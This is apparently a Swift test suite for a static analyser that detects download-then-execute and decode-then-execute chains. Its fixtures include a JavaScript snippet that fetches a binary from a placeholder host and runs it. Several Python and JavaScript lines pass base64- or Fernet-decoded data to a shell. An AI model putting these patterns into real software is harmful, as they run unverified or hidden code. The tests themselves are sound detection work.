import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("What excuses a process, and what does not")
struct ExcuseTests {
    private static let digest = String(repeating: "0123456789abcdef", count: 4)

    private static func download(_ check: String, _ run: String) -> String {
        """
        const https = require('https'), fs = require('fs'), crypto = require('crypto');
        const { execFileSync } = require('child_process');
        https.get('https://x.example.invalid/tool', (res) => {
          const parts = [];
          res.on('data', (part) => parts.push(part));
          res.on('end', () => {
            const body = res.read();
            \(check)
            fs.writeFileSync('tool', body);
            \(run)
          });
        });
        """
    }

    @Test(
        "a digest that is compared with nothing is no excuse",
        arguments: [
            "const sum = '\(digest)'; crypto.createHash('sha256').update(body).digest('hex');",
            "const sum = '\(digest)'; const hash = crypto.createHash('sha256'); hash.update(body);",
            "const sum = '\(digest)'; if (sum !== process.argv[2]) console.log(sum);",
            "if (crypto.createHash('sha256').update(body).digest('hex') === process.argv[2]) console.log(1);",
        ]
    )
    func compares(check: String) {
        let found = Evasion.findings(Self.download(check, "execFileSync(body, ['install']);"), .javaScript).findings
        #expect(found.contains { $0.code == .chainDownloadExecute })
    }

    @Test(
        "a digest that is compared is",
        arguments: [
            "if (crypto.createHash('sha256').update(body).digest('hex') !== '\(digest)') throw 1;",
            "const hash = crypto.createHash('sha256'); hash.update(body); const sum = '\(digest)';"
                + " if (sum != hash.digest('hex')) throw 1;",
            "const sums = { linux: '\(digest)' }; const hash = crypto.createHash('sha256').update(body).digest('hex');"
                + " if (hash !== sums[process.platform]) throw 1;",
            "const hash = crypto.createHash('sha256').update(body).digest();"
                + " if (!crypto.timingSafeEqual(hash, Buffer.from('\(digest)', 'hex'))) throw 1;",
        ]
    )
    func compared(check: String) {
        let found = Evasion.findings(Self.download(check, "execFileSync(body, ['install']);"), .javaScript).findings
        #expect(!found.contains { $0.code == .chainDownloadExecute }, "\(found.map { "\($0.code) \($0.detail)" })")
        #expect(found.contains { $0.code == .capabilityProcess && $0.weight == .sensitive })
    }

    @Test("asking a new program for its version is lighter, not nothing")
    func version() {
        let found = Evasion.findings(Self.download("", "execFileSync(body, ['-v']);"), .javaScript).findings
        #expect(!found.contains { $0.code == .chainDownloadExecute })
        #expect(found.contains { $0.code == .capabilityProcess && $0.weight == .sensitive })
    }

    @Test(
        "what is only given to a process is not run",
        arguments: [
            (
                Language.python,
                "import subprocess, base64\nsubprocess.run(cmd, input=base64.b64decode(cert), check=True)\n"
            ),
            (.python, "import subprocess, base64\nsubprocess.run(['x'], env={'A': base64.b64decode(a)})\n"),
            (.python, "import subprocess, base64\nsubprocess.run(['x'], stdin=1, input=base64.b64decode(a))\n"),
            (
                .javaScript,
                "require('child_process').execFileSync('openssl', args, {input: Buffer.from(key, 'base64')});"
            ),
            (.javaScript, "require('child_process').exec('x', (e, out) => Buffer.from(out, 'base64'));"),
            (
                .python,
                "import subprocess\nfrom cryptography.fernet import Fernet\nf = Fernet(key)\n"
                    + "subprocess.run(['mysql', '-p' + f.decrypt(password)])\n"
            ),
        ]
    )
    func honest(language: Language, source: String) {
        let found = Evasion.findings(source, language).findings
        #expect(!found.contains { $0.code == .chainDecodeExecute }, "\(found.map { "\($0.code) \($0.detail)" })")
    }

    @Test(
        "what is decoded and run is",
        arguments: [
            (Language.python, "import subprocess, base64\nsubprocess.run(base64.b64decode(a), shell=True)\n"),
            (.python, "import subprocess, base64\nsubprocess.run(['sh', '-c', base64.b64decode(a)])\n"),
            (.python, "import subprocess, base64\nsubprocess.run(args=base64.b64decode(a))\n"),
            (.python, "import os, base64\nos.execl('/bin/sh', 'sh', '-c', base64.b64decode(a))\n"),
            (.javaScript, "require('child_process').spawn('sh', ['-c', Buffer.from(a, 'base64').toString()]);"),
            (.javaScript, "const w = ['-c', atob(a)]; require('child_process').spawn('sh', w, {});"),
            (
                .python,
                "import os\nfrom cryptography.fernet import Fernet\n"
                    + "os.system(Fernet(b'0123456789abcdef0123456789abcdef').decrypt(x))\n"
            ),
            (
                .python,
                "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(key)\n"
                    + "os.system(f.decrypt(b'gAAAAABk0123456789abcdef0123456789abcdef'))\n"
            ),
        ]
    )
    func decoded(language: Language, source: String) {
        let found = Evasion.findings(source, language).findings
        #expect(found.contains { $0.code == .chainDecodeExecute }, "\(found.map { "\($0.code) \($0.detail)" })")
    }
}
